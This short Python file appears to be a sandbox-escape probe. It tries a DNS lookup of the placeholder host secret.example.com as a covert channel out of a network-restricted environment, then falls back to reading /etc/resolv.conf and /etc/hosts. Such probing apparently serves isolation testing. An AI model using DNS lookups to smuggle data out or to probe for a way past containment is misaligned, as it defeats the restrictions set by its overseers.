"""ask a name server, by which data leave even where connections are forbidden

Breach: an answer, or a question that could be sent. Runs with the socket module.
"""

import contextlib
import socket

RUNTIME = "peers"


def attack(bait: bytes) -> bytes:
    with contextlib.suppress(OSError):
        return repr(socket.getaddrinfo("secret.example.com", 80)).encode()
    for place in ("/etc/resolv.conf", "/etc/hosts", "/run/systemd/resolve/io.systemd.Resolve"):
        with contextlib.suppress(OSError), open(place, "rb") as file:
            return file.read(100)
    return b""
